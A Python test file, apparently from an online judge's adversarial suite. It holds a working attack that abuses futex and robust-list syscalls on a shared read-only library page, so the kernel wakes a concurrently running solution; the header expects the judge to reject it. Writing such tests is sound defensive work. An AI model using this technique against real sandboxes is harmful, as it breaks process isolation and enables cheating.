# attack: let the kernel wake a solution that runs at the same time, by the list of locks of a thread that ends
# expect: WA|TLE|RE
# problem: echo

import _ctypes
import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
FUTEX, SET_ROBUST_LIST = (202, 273) if os.uname().machine == "x86_64" else (98, 99)
PATH = _ctypes.__file__  # it has words of zeros
with open(PATH, "rb") as file:
    PAGE = file.read(4096)
ZERO = next(at for at in range(0, 4096, 8) if PAGE[at : at + 8] == bytes(8))
AT = libc.mmap(None, 4096, 1, 2, os.open(PATH, os.O_RDONLY), 0) + ZERO
PAUSE = (ctypes.c_long * 2)(0, 5_000_000)
met, heads = [], []


def end():
    head = (ctypes.c_long * 3)()
    head[:] = ctypes.addressof(head), 0, AT  # no lock, and one that is being released
    heads.append(head)
    libc.syscall(SET_ROBUST_LIST, head, 24)


def echo(n):
    until = time.monotonic() + 0.8
    while not met and time.monotonic() < until:
        if libc.syscall(FUTEX, ctypes.c_void_p(AT), 0, 0, PAUSE, None, 0) == 0:
            met.append(True)
        thread = threading.Thread(target=end)
        thread.start()
        thread.join()
        time.sleep(0.01)
    met.append(False)
    return n if met[0] else None
